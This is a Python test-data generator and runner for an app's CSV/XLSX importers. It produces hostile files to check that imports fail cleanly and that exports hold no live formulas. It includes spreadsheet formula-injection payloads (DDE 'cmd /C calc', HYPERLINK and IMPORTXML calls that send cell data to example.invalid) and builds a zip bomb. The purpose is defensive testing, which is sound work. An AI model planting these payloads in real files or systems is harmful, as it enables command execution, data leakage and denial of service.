"""Hostile import files for every importer: the driver of tests/app/test_hostile_files.py and
benchmarks/hostile_files.py (not a test itself).

:func:`generate` makes, from a seed, ``count`` files for one importer (``persons``, ``intake``,
``manifests``), CSV and XLSX, each of one hostile kind: formulas, huge cells, NUL and control characters,
damaged sheet XML, zip bombs, wrong encodings, BOMs, lookalike letters, duplicates differing in case or
spaces, truncated files, wrong types, empty files, binary garbage, ... — and, among them, clean files
carrying tricky but legitimate values (Cyrillic names, negative numbers, a note starting with "- ").

:func:`run` puts each file through the real import service on whatever database Django is set up with
and counts:

* ``tracebacks`` — any exception other than Homecoming's own named errors (``HomecomingError``);
* ``partial_writes`` — a refused file that changed a row count, or an accepted one that added other than
  one row per record;
* ``live_formulas`` — after an accepted file, cells of its XLSX and CSV exports that a spreadsheet would
  run (an XLSX formula cell; a CSV cell starting with = + - @ TAB CR that is not a number).

Synthetic data only.
"""

from __future__ import annotations

import csv
import io
import random
import re
import tempfile
import traceback
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl

IMPORTERS = ("persons", "intake", "manifests")

HEADERS = {
    "persons": ["external_id", "family_name", "given_name", "sex", "birth_date", "service_number", "notes"],
    "intake": ["bag_number", "kind", "part_of", "seal_number", "apparent_age", "date_of_recovery", "notes"],
    "manifests": ["line_no", "category", "container_number", "claimed_name", "claimed_birth_date", "note"],
}
#: The column of each format that is a reference (compared for duplicates) and a free-text column.
REFERENCE = {"persons": "service_number", "intake": "bag_number", "manifests": "container_number"}
TEXT = {"persons": "family_name", "intake": "notes", "manifests": "claimed_name"}

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=", A2), "//a")',
    "\t=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
)
FAMILY = (
    "Шевченко",
    "Коваленко",
    "Бондаренко",
    "Петренко",
    "Shevchenko",
    "Kovalenko",
    "O'Neil",
    "Мар'яненко",
)
GIVEN = ("Тарас", "Олена", "Ivan", "Petro", "Ганна", "Юрій")
CONTROLS = ("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\u202e", "\ufeff")
LOOKALIKE = str.maketrans("AEKMHOPCTX", "АЕКМНОРСТХ")  # Latin -> Cyrillic


# ---------------------------------------------------------------- clean rows


def clean_rows(importer: str, rng: random.Random, n: int, tag: str) -> list[list[str]]:
    """``n`` valid records (unique references carrying ``tag``, so no two files have the same bytes)."""
    rows = []
    for i in range(n):
        ref = f"{tag}-{i:04d}"
        if importer == "persons":
            rows.append(
                [
                    f"X-{ref}",
                    rng.choice(FAMILY),
                    rng.choice(GIVEN),
                    rng.choice(["male", "female", ""]),
                    rng.choice(["1990-05-17", "1988", "1979-03", ""]),
                    f"SN{ref}".replace("-", ""),
                    rng.choice(["", "- see the letter", "-5", "+380 67 123 45 67", "scar; 1,5 cm"]),
                ]
            )
        elif importer == "intake":
            rows.append(
                [
                    f"B-{ref}",
                    "body",
                    "",
                    f"S-{ref}",
                    rng.choice(["25-35", "~30", ""]),
                    rng.choice(["2024-05-17", "2024-03", ""]),
                    rng.choice(["", "- torn label", "Запорізька обл.", "-1"]),
                ]
            )
        else:
            rows.append(
                [
                    str(i + 1),
                    "bodies",
                    f"BAG-{ref}",
                    rng.choice(FAMILY) + " " + rng.choice(GIVEN),
                    rng.choice(["1990-05-17", "1988", ""]),
                    rng.choice(["", "- recheck", "-7"]),
                ]
            )
    return rows


# ---------------------------------------------------------------- writing files


def csv_bytes(
    header: list[str], rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ","
) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(header: list[str], rows: list[list[Any]]) -> bytes:
    """An XLSX as a spreadsheet writes it; text cells are stored as text (even "=...")."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for record in [header, *rows]:
        sheet.append([None if v == "" else v for v in record])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_sheet(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename.startswith("xl/worksheets/"):
                content = change(content)
            dst.writestr(info.filename, content)
    return out.getvalue()


_BOMB: dict[int, bytes] = {}


def zip_bomb(size: int = 260 * 1024 * 1024) -> bytes:
    """An XLSX (~300 KB) whose sheet unzips to ``size`` bytes of rows (built once, streamed)."""
    if size not in _BOMB:
        good = xlsx_bytes(["a"], [["b"]])
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                if not info.filename.startswith("xl/worksheets/"):
                    dst.writestr(info.filename, src.read(info))
                    continue
                head, tail = src.read(info).split(b"</sheetData>")
                row = b'<row><c t="inlineStr"><is><t>' + b"x" * 1000 + b"</t></is></c></row>"
                with dst.open(zipfile.ZipInfo(info.filename), "w", force_zip64=True) as sheet:
                    sheet.write(head)
                    block = row * 1000
                    for _ in range(size // len(block)):
                        sheet.write(block)
                    sheet.write(b"</sheetData>" + tail)
        _BOMB[size] = out.getvalue()
    return _BOMB[size]


def lying_zip(data: bytes) -> bytes:
    """The zip directory declares the sheet far smaller than it unzips to (the reader must not trust it)."""
    raw = bytearray(data)
    for marker in (b"PK\x01\x02", b"PK\x03\x04"):
        start = 0
        while (at := raw.find(marker, start)) >= 0:
            offset = 24 if marker == b"PK\x01\x02" else 22
            raw[at + offset : at + offset + 4] = (100).to_bytes(4, "little")
            start = at + 4
    return bytes(raw)


# ---------------------------------------------------------------- the hostile kinds


@dataclass(frozen=True)
class HostileFile:
    importer: str
    kind: str
    name: str
    data: bytes
    records: int  # the records written in the file: an accepted file adds exactly these
    clean: bool  # a clean file, which must be accepted


XLSX_KINDS = {
    "formula_xlsx",
    "huge_cell_xlsx",
    "truncated_xlsx",
    "malformed_xml",
    "malformed_xml_first_row",
    "zip_bomb",
    "lying_zip",
    "not_a_zip",
    "binary_xlsx",
    "formula_cell_xlsx",
    "clean_xlsx",
    "far_right_xlsx",
}


def _put(rows: list[list[str]], header: list[str], column: str, value: str, rng: random.Random) -> None:
    rows[rng.randrange(len(rows))][header.index(column)] = value


def kinds() -> list[str]:
    return [
        "formula",
        "formula_xlsx",
        "formula_other_column",
        "huge_cell_csv",
        "huge_cell_xlsx",
        "long_cell",
        "control_char",
        "control_char_xlsx",
        "mixed_script",
        "homoglyph_reference",
        "duplicate_case",
        "duplicate_space",
        "utf16_bom",
        "utf16_no_bom",
        "utf32",
        "cp1251",
        "latin1",
        "double_bom",
        "truncated_csv",
        "truncated_xlsx",
        "malformed_xml",
        "malformed_xml_first_row",
        "zip_bomb",
        "lying_zip",
        "not_a_zip",
        "binary_csv",
        "binary_xlsx",
        "empty",
        "header_only",
        "blank_first_rows",
        "unknown_columns",
        "ten_thousand_columns",
        "far_right_xlsx",
        "missing_required",
        "wrong_types",
        "extra_cells",
        "unterminated_quote",
        "wrong_extension",
        "formula_cell_xlsx",
        "many_rows",
        "clean_csv",
        "clean_bom_semicolon",
        "clean_xlsx",
    ]


def make_file(importer: str, kind: str, rng: random.Random, index: int) -> HostileFile:
    header = list(HEADERS[importer])
    tag = f"H{index:05d}{rng.randrange(10**6):06d}"
    rows = clean_rows(importer, rng, rng.randint(2, 8), tag)
    text, ref = TEXT[importer], REFERENCE[importer]
    name = f"{importer}-{index:05d}-{kind}"
    clean = kind.startswith("clean")
    if kind in ("formula", "formula_xlsx"):
        _put(rows, header, text, rng.choice(FORMULAS), rng)
        data = xlsx_bytes(header, rows) if kind == "formula_xlsx" else csv_bytes(header, rows)
    elif kind == "formula_other_column":
        _put(rows, header, header[-1], rng.choice(FORMULAS), rng)
        data = csv_bytes(header, rows)
    elif kind == "huge_cell_csv":
        _put(rows, header, text, "x" * rng.randint(131_073, 400_000), rng)
        data = csv_bytes(header, rows)
    elif kind == "huge_cell_xlsx":
        _put(rows, header, text, "y" * rng.randint(20_000, 32_000), rng)
        data = xlsx_bytes(header, rows)
    elif kind == "long_cell":
        _put(rows, header, text, "z" * rng.randint(201, 9_000), rng)
        data = csv_bytes(header, rows)
    elif kind in ("control_char", "control_char_xlsx"):
        char = rng.choice(CONTROLS)
        _put(rows, header, text, f"Iv{char}an", rng)
        if kind == "control_char_xlsx" and char not in (
            "\x00",
            "\x01",
            "\x07",
            "\x08",
            "\x0b",
            "\x0c",
            "\x1b",
        ):
            data = xlsx_bytes(header, rows)
        else:
            data = csv_bytes(header, rows)
    elif kind == "mixed_script":
        _put(rows, header, text, rng.choice(["Tарас", "Шевчeнко", "Ivаn", "Пeтро"]), rng)
        data = csv_bytes(header, rows)
    elif kind == "homoglyph_reference":
        i = rng.randrange(len(rows))
        rows[i][header.index(ref)] = rows[i][header.index(ref)].translate(LOOKALIKE)
        if importer == "persons":  # a number typed half in Cyrillic
            rows[i][header.index(ref)] = "АB" + rows[i][header.index(ref)]
        data = csv_bytes(header, rows)
    elif kind in ("duplicate_case", "duplicate_space"):
        first = rows[0][header.index(ref)]
        copy = list(rows[0])
        copy[0] = str(len(rows) + 1) if importer == "manifests" else copy[0] + "-dup"
        copy[header.index(ref)] = first.lower() if kind == "duplicate_case" else f" {first} "
        rows.append(copy)
        data = csv_bytes(header, rows) if rng.random() < 0.5 else xlsx_bytes(header, rows)
    elif kind == "utf16_bom":
        data = csv_bytes(header, rows, rng.choice(["utf-16", "utf-16-be"]))
        if not data.startswith((b"\xff\xfe", b"\xfe\xff")):
            data = b"\xfe\xff" + data
    elif kind == "utf16_no_bom":
        data = csv_bytes(header, rows, rng.choice(["utf-16-le", "utf-16-be"]))
    elif kind == "utf32":
        data = csv_bytes(header, rows, "utf-32")
    elif kind == "cp1251":
        rows[0][header.index(text)] = "Шевченко"
        data = csv_bytes(header, rows, "cp1251")
    elif kind == "latin1":
        rows[0][header.index(text)] = "Müller"
        data = csv_bytes(header, rows, "latin-1")
    elif kind == "double_bom":
        data = b"\xef\xbb\xbf\xef\xbb\xbf" + csv_bytes(header, rows)
    elif kind == "truncated_csv":  # cut inside the last record: it is refused or read as far as it goes
        full = csv_bytes(header, [[*r[:-1], '"multi\nline, note"'] for r in rows])
        last = full.rstrip(b"\r\n").rfind(b"\r\n") + 2
        data = full[: rng.randint(last + 1, len(full) - 3)]
    elif kind == "truncated_xlsx":
        full = xlsx_bytes(header, rows)
        data = full[: rng.randint(100, len(full) - 10)]
    elif kind == "malformed_xml":
        data = rewrite_sheet(
            xlsx_bytes(header, rows), lambda x: x.replace(b"</sheetData>", b"<row r=<<<" + b"</sheetData>")
        )
    elif kind == "malformed_xml_first_row":
        data = rewrite_sheet(xlsx_bytes(header, rows), lambda x: x.replace(b"<row ", b"<row <", 1))
    elif kind == "zip_bomb":
        data = zip_bomb()
    elif kind == "lying_zip":
        data = lying_zip(xlsx_bytes(header, rows * 50))
    elif kind == "not_a_zip":
        data = b"PK\x03\x04" + rng.randbytes(rng.randint(10, 5000))
    elif kind == "binary_csv" or kind == "binary_xlsx":
        data = rng.randbytes(rng.randint(1, 20_000))
    elif kind == "empty":
        data = rng.choice([b"", b"\r\n", b"\xef\xbb\xbf", b" \n \n", b",,,\n"])
    elif kind == "header_only":
        data = csv_bytes(header, [])
    elif kind == "blank_first_rows":
        data = b"\r\n" * rng.randint(1, 5) + csv_bytes(header, rows)
    elif kind == "unknown_columns":
        data = csv_bytes([*header, "colour", "Прізвище"], [[*r, "red", "x"] for r in rows])
    elif kind == "ten_thousand_columns":
        data = csv_bytes([*header, *(f"c{i}" for i in range(10_000))], rows)
    elif kind == "far_right_xlsx":  # a cell at column XFD in every row: openpyxl would pad each to 16,384
        data = rewrite_sheet(
            xlsx_bytes(header, rows),
            lambda x: re.sub(
                rb'<dimension ref="A1:[A-Z]+',
                b'<dimension ref="A1:XFD',
                re.sub(rb"</row>", b'<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>', x),
            ),
        )
    elif kind == "missing_required":
        drop = header.index(
            text if importer == "persons" else ("kind" if importer == "intake" else "category")
        )
        data = csv_bytes(
            [h for i, h in enumerate(header) if i != drop],
            [[v for i, v in enumerate(r) if i != drop] for r in rows],
        )
    elif kind == "wrong_types":
        column = {"persons": "birth_date", "intake": "date_of_recovery", "manifests": "claimed_birth_date"}[
            importer
        ]
        _put(rows, header, column, rng.choice(["31.02.2024", "yesterday", "2024-13-01", "1e9", "-1"]), rng)
        data = csv_bytes(header, rows) if rng.random() < 0.5 else xlsx_bytes(header, rows)
    elif kind == "extra_cells":
        rows[0] = [*rows[0], "surplus", "more"]
        data = csv_bytes(header, rows)
    elif kind == "unterminated_quote":
        data = csv_bytes(header, rows) + b'"never closed,' + b"x" * rng.randint(0, 1000)
    elif kind == "wrong_extension":
        data = csv_bytes(header, rows)
        name += rng.choice([".ods", ".pdf", ".xls", ""])
    elif kind == "formula_cell_xlsx":  # a real formula cell: its cached value (none) is read, never run
        book = openpyxl.Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(header)
        for r in rows:
            sheet.append(r)
        sheet.cell(row=2, column=header.index(text) + 1, value='=HYPERLINK("http://example.invalid","x")')
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    elif kind == "many_rows":
        data = csv_bytes(header, []) + b"x,y\r\n" * 200_001
    elif kind == "clean_csv":
        data = csv_bytes(header, rows)
    elif kind == "clean_bom_semicolon":
        data = b"\xef\xbb\xbf" + csv_bytes(header, rows, delimiter=";")
    elif kind == "clean_xlsx":
        data = xlsx_bytes(header, rows)
    else:
        raise ValueError(kind)
    if kind == "wrong_extension":
        name += rng.choice([".ods", ".pdf", ".xls", ".json"])
    else:
        name += ".xlsx" if data[:2] == b"PK" or kind in XLSX_KINDS else ".csv"
    return HostileFile(importer, kind, name, data, len(rows), clean)


def generate(importer: str, count: int, seed: int = 20261203) -> list[HostileFile]:
    """``count`` files for ``importer``: every kind in turn (so each appears), then seeded variation."""
    rng = random.Random(f"{seed}-{importer}")
    every = kinds()
    return [make_file(importer, every[i % len(every)], rng, i) for i in range(count)]


# ---------------------------------------------------------------- running them


@dataclass
class Finding:
    file: str
    kind: str
    what: str  # "traceback" | "partial_write" | "live_formula" | "refused_clean"
    detail: str


@dataclass
class Report:
    files: int = 0
    imported: int = 0
    refused: int = 0
    tracebacks: int = 0
    partial_writes: int = 0
    live_formulas: int = 0
    findings: list[Finding] = field(default_factory=list)


def counts(importer: str) -> dict[str, int]:
    from homecoming.app.audit.models import AuditRecord

    if importer == "persons":
        from homecoming.app.registry.models import NameForm, Person, StatusAssertion

        models: list[Any] = [Person, NameForm, StatusAssertion]
    elif importer == "intake":
        from homecoming.app.remains.models import CustodyEvent, IntakeBatch, RemainsUnit

        models = [IntakeBatch, RemainsUnit, CustodyEvent]
    else:
        from homecoming.app.exchanges.models import ManifestLine, ManifestVersion

        models = [ManifestVersion, ManifestLine]
    return {m.__name__: m.objects.count() for m in [*models, AuditRecord]}


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[\d ]*[.,]?\d+(?:[eE][+-]?\d+)?|\+[\d ()./-]+")


def live_formulas(xlsx: bytes, csv_text: str) -> list[str]:
    """Cells a spreadsheet would run: XLSX formula cells, CSV cells starting like a formula."""
    found = []
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    for row in book.worksheets[0].iter_rows():
        found += [f"xlsx {c.coordinate}: {c.value!r}" for c in row if c.data_type == "f"]
    for record in csv.reader(io.StringIO(csv_text)):
        found += [
            f"csv: {cell!r}" for cell in record if cell[:1] in FORMULA_START and not NUMBER.fullmatch(cell)
        ]
    return found


class Context:
    """What the importers need: a user, and for manifests the example ledger's operation."""

    def __init__(self) -> None:
        from homecoming.app.accounts.models import User
        from homecoming.app.accounts.roles import Role
        from homecoming.app.accounts.services import create_user

        self.user = User.objects.filter(username="hostile-files").first() or create_user(
            username="hostile-files", password="hostile files 12345", role=Role.admin, check_password=False
        )
        self._operation: Any = None

    @property
    def operation(self) -> Any:
        if self._operation is None:
            from homecoming.app.exchanges.ledger_data import load_example_ledger
            from homecoming.app.exchanges.models import Operation

            load_example_ledger(self.user)
            self._operation = Operation.objects.get(reference="REM-2025-09-18")
        return self._operation


def import_one(ctx: Context, f: HostileFile, folder: Path) -> Callable[[], tuple[bytes, str]]:
    """Import ``f``; return a function giving the exports (XLSX, CSV text) of what it imported."""
    if f.importer == "persons":
        from homecoming.app.registry import importing
        from homecoming.app.registry.models import Person
        from homecoming.io.persons import write_persons

        path = folder / f.name
        path.write_bytes(f.data)
        last = Person.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
        importing.import_persons(actor=ctx.user, path=path)

        def exports() -> tuple[bytes, str]:
            qs = Person.objects.filter(pk__gt=last)
            x, c = io.BytesIO(), io.StringIO(newline="")
            write_persons(importing.export_rows(qs), x, fmt="xlsx")
            write_persons(importing.export_rows(qs), c, fmt="csv")
            return x.getvalue(), c.getvalue()

        return exports
    if f.importer == "intake":
        from homecoming.app.remains import importing as intake
        from homecoming.io.intake import write_intake

        path = folder / f.name
        path.write_bytes(f.data)
        batch_data = {
            "source": "recovery",
            "receiving_facility": "Facility North",
            "handed_over_by": "Sender",
            "received_by": "Morgue North",
            "containers_declared": 1,
        }
        report = intake.import_intake(actor=ctx.user, path=path, batch_data=batch_data)

        def exports() -> tuple[bytes, str]:
            from homecoming.app.remains.models import IntakeBatch

            batch = IntakeBatch.objects.get(reference=report.batch)
            x, c = io.BytesIO(), io.StringIO(newline="")
            write_intake(intake.export_rows(batch), x, fmt="xlsx", extra=intake.EXPORT_EXTRA)
            write_intake(intake.export_rows(batch), c, fmt="csv", extra=intake.EXPORT_EXTRA)
            return x.getvalue(), c.getvalue()

        return exports
    from homecoming.app.exchanges import manifests as manifest_services
    from homecoming.app.exchanges.models import ManifestVersion
    from homecoming.io.manifests import write_manifest

    result = manifest_services.import_manifest(
        actor=ctx.user,
        operation=ctx.operation,
        sending="RU",
        receiving="UA",
        stage="executed",
        name=f.name,
        data=f.data,
        reason=f"hostile file {f.name}",
    )

    def exports() -> tuple[bytes, str]:
        version = ManifestVersion.objects.get(pk=result["version_id"])
        rows = list(manifest_services.export_rows(version, health=True))
        return write_manifest(rows, fmt="xlsx"), write_manifest(rows, fmt="csv").decode("utf-8-sig")

    return exports


def run(files: list[HostileFile], ctx: Context | None = None) -> Report:
    """Each file through its real importer; every finding named."""
    from homecoming.errors import HomecomingError

    ctx = ctx or Context()
    report = Report()
    with tempfile.TemporaryDirectory(prefix="hc-hostile-") as tmp:
        for f in files:
            report.files += 1
            folder = Path(tmp) / str(report.files)
            folder.mkdir()
            if f.importer == "manifests":
                ctx.operation  # noqa: B018  (loads the example ledger before the counts)
            before = counts(f.importer)
            exports = None
            try:
                exports = import_one(ctx, f, folder)
            except HomecomingError:
                report.refused += 1
            except Exception as exc:  # the finding this run exists to count
                report.tracebacks += 1
                report.findings.append(
                    Finding(
                        f.name, f.kind, "traceback", "".join(traceback.format_exception_only(exc)).strip()
                    )
                )
            after = counts(f.importer)
            changed = {k: after[k] - before[k] for k in after if after[k] != before[k]}
            if exports is None and changed:
                report.partial_writes += 1
                report.findings.append(
                    Finding(f.name, f.kind, "partial_write", f"refused but changed {changed}")
                )
            if exports is not None:
                report.imported += 1
                main = {"persons": "Person", "intake": "RemainsUnit", "manifests": "ManifestLine"}[f.importer]
                if changed.get(main, 0) != f.records:
                    report.partial_writes += 1
                    report.findings.append(
                        Finding(f.name, f.kind, "partial_write", f"{f.records} records, changed {changed}")
                    )
                live = live_formulas(*exports())
                report.live_formulas += len(live)
                report.findings += [Finding(f.name, f.kind, "live_formula", cell) for cell in live]
            if f.clean and exports is None:
                report.findings.append(Finding(f.name, f.kind, "refused_clean", "a clean file was refused"))
    return report
